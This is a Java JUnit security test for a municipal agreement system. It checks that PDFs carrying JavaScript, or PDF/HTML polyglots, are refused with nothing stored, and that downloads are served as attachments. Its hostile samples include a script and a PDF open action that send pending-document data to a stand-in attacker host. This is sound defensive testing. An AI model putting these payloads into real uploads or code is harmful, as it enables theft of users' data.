package cl.conveniosomm.garantias.seguridad;

import static org.assertj.core.api.Assertions.assertThat;

import cl.conveniosomm.documento.DocumentoService;
import cl.conveniosomm.documento.TipoDocumento;
import cl.conveniosomm.proceso.Procesos;
import cl.conveniosomm.support.DemoApplicationTest;
import cl.conveniosomm.support.HttpClientSupport;
import cl.conveniosomm.support.Pdf;
import cl.conveniosomm.support.Registro;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.camunda.bpm.engine.RuntimeService;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;

/**
 * A PDF that runs JavaScript, or a file that is a web page and a PDF at once, uploaded by the very
 * person who uploads that document, is refused in Spanish and changes nothing: the document already
 * stored stays the one served. Documents are served so a browser can only save them.
 */
class SubidaPdfTest extends DemoApplicationTest {

  private static final String DIDECO = HttpClientSupport.basic("dideco", "demo");
  private static final String HTML =
      "<html><body><script>fetch('/api/documentos/pendientes')"
          + ".then(r => r.text()).then(t => new Image().src = 'https://atacante.example/?' + t)</script></body></html>";

  @Autowired RuntimeService runtimeService;
  @Autowired DocumentoService documentos;

  @Test
  void aPdfWithJavaScriptOrAPdfHtmlPolyglotIsRefusedAndNothingIsStored() {
    String convenio =
        runtimeService
            .startProcessInstanceByKey(Procesos.CONVENIO_OMM, Registro.otraComuna())
            .getBusinessKey();
    String url = "/api/convenios/" + convenio + "/documentos/CONVENIO_FIRMADO";
    byte[] firmado = Pdf.de("convenio firmado");
    assertThat(
            http()
                .upload(url, "convenio.pdf", firmado, "application/pdf", "Authorization", DIDECO)
                .statusCode())
        .isEqualTo(201);
    String limpio = new String(Pdf.de("convenio corregido"), StandardCharsets.ISO_8859_1);
    int finCabecera = limpio.indexOf('\n') + 1;
    List<Map.Entry<String, byte[]>> hostiles =
        List.of(
            Map.entry(
                "contenido activo",
                Pdf.con(
                    "convenio corregido",
                    pdf ->
                        pdf.getDocumentCatalog()
                            .setOpenAction(
                                new PDActionJavaScript(
                                    "this.submitForm('https://atacante.example/')")))),
            Map.entry(
                "contenido web",
                (limpio.substring(0, finCabecera) + HTML + "\n" + limpio.substring(finCabecera))
                    .getBytes(StandardCharsets.ISO_8859_1)),
            Map.entry("contenido web", (limpio + HTML).getBytes(StandardCharsets.ISO_8859_1)));

    for (Map.Entry<String, byte[]> hostil : hostiles) {
      HttpResponse<String> respuesta =
          http()
              .upload(
                  url,
                  "convenio.pdf",
                  hostil.getValue(),
                  "application/pdf",
                  "Authorization",
                  DIDECO);
      assertThat(respuesta.statusCode())
          .as(hostil.getKey() + ": " + respuesta.body())
          .isEqualTo(400);
      assertThat(respuesta.body()).contains(hostil.getKey()).contains("No se guardó nada");
    }

    assertThat(documentos.deConvenio(convenio))
        .singleElement()
        .satisfies(documento -> assertThat(documento.version()).isEqualTo(1));
    HttpResponse<String> lista =
        http().getAs("dideco", "demo", "/api/convenios/" + convenio + "/documentos");
    assertThat(lista.body()).contains("\"version\":1").doesNotContain("\"version\":2");
    assertThat(http().downloadAs("dideco", "demo", url + "/contenido").body()).isEqualTo(firmado);
  }

  @Test
  void aDownloadedDocumentIsAPdfToSaveNeverAPageToRender() {
    String convenio =
        runtimeService
            .startProcessInstanceByKey(Procesos.CONVENIO_OMM, Registro.otraComuna())
            .getBusinessKey();
    documentos.guardar(
        convenio, TipoDocumento.CONVENIO_FIRMADO, "convenio.html", Pdf.de("x"), "dideco");

    HttpResponse<byte[]> descarga =
        http()
            .downloadAs(
                "alcalde",
                "demo",
                "/api/convenios/" + convenio + "/documentos/CONVENIO_FIRMADO/contenido");

    assertThat(descarga.statusCode()).isEqualTo(200);
    assertThat(descarga.headers().firstValue("Content-Type")).hasValue("application/pdf");
    assertThat(descarga.headers().firstValue("X-Content-Type-Options")).hasValue("nosniff");
    assertThat(descarga.headers().firstValue("Content-Disposition"))
        .hasValueSatisfying(
            valor -> assertThat(valor).startsWith("attachment;").contains("convenio.html.pdf"));
  }
}
